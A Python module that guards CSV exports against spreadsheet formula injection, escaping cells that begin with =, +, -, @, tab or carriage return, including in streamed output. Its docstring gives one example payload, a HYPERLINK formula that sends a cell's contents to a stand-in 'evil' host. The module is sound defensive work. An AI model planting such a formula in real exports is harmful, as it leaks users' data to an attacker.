"""CSV cells a spreadsheet will not run as formulas.

A model name is whatever a page says, so a hostile page can name a model
``=HYPERLINK("http://evil/?"&A1, "click")``; opened in Excel or LibreOffice, a CSV export would
run it. OWASP's advice (CSV injection) is to prefix a cell that starts with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return with a single quote, which spreadsheets show as text. Plain
numbers (``-0.5``, ``+3``) are left alone: they are what a price column holds, and a spreadsheet
reads them as numbers either way.

``safe_cell`` is for CSV we write ourselves; ``CsvFormulaGuard`` rewrites a CSV byte stream as it
is produced (Datasette's ``.csv`` pages stream rows), holding back at most one unfinished row.
"""

from __future__ import annotations

import codecs
import csv
import io
import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value: object) -> object:
    """The value, or a text a spreadsheet shows as text when it would start a formula."""
    if (isinstance(value, str) and value.startswith(FORMULA_STARTS)
            and not _PLAIN_NUMBER.fullmatch(value)):
        return "'" + value
    return value


class CsvFormulaGuard:
    """Rewrites UTF-8 CSV chunks so that no cell starts a formula.

    Rows may be split anywhere between chunks (even inside a quoted cell or a UTF-8 sequence),
    so only complete rows are rewritten: the text after the last line end outside quotes waits
    for the next chunk. Rows without a dangerous cell come out byte for byte as they went in.
    """

    def __init__(self) -> None:
        self._decoder = codecs.getincrementaldecoder("utf-8")(errors="replace")
        self._pending = ""
        self._in_quotes = False  # quote state at the end of ``_pending``

    def feed(self, chunk: bytes) -> bytes:
        text = self._decoder.decode(chunk)
        if not text:
            return b""
        start = len(self._pending)
        self._pending += text
        cut = -1
        in_quotes = self._in_quotes
        for i in range(start, len(self._pending)):
            ch = self._pending[i]
            if ch == '"':
                in_quotes = not in_quotes
            elif ch == "\n" and not in_quotes:
                cut = i + 1
        self._in_quotes = in_quotes
        if cut < 0:
            return b""
        done, self._pending = self._pending[:cut], self._pending[cut:]
        self._in_quotes = self._pending.count('"') % 2 == 1
        return _rewrite(done).encode("utf-8")

    def close(self) -> bytes:
        """Whatever is left (a last row without a line end)."""
        rest = self._pending + self._decoder.decode(b"", final=True)
        self._pending = ""
        return _rewrite(rest).encode("utf-8") if rest else b""


def _rewrite(text: str) -> str:
    if not any(c in text for c in FORMULA_STARTS):
        return text  # the common case: nothing can start a formula, copy as is
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    for line in _rows(text):
        row, ending = line
        cells = next(csv.reader([row])) if row else []
        guarded = [safe_cell(c) for c in cells]
        if guarded == cells:
            out.write(row + ending)
        else:
            writer.writerow(guarded)
            if ending != "\r\n":
                out.seek(out.tell() - 2)
                out.truncate()
                out.write(ending)
    return out.getvalue()


def _rows(text: str) -> list[tuple[str, str]]:
    """Split CSV text into (row, line ending) at line ends outside quotes."""
    rows: list[tuple[str, str]] = []
    in_quotes = False
    begin = 0
    for i, ch in enumerate(text):
        if ch == '"':
            in_quotes = not in_quotes
        elif ch == "\n" and not in_quotes:
            end = i - 1 if i > begin and text[i - 1] == "\r" else i
            rows.append((text[begin:end], text[end:i + 1]))
            begin = i + 1
    if begin < len(text):
        rows.append((text[begin:], ""))
    return rows
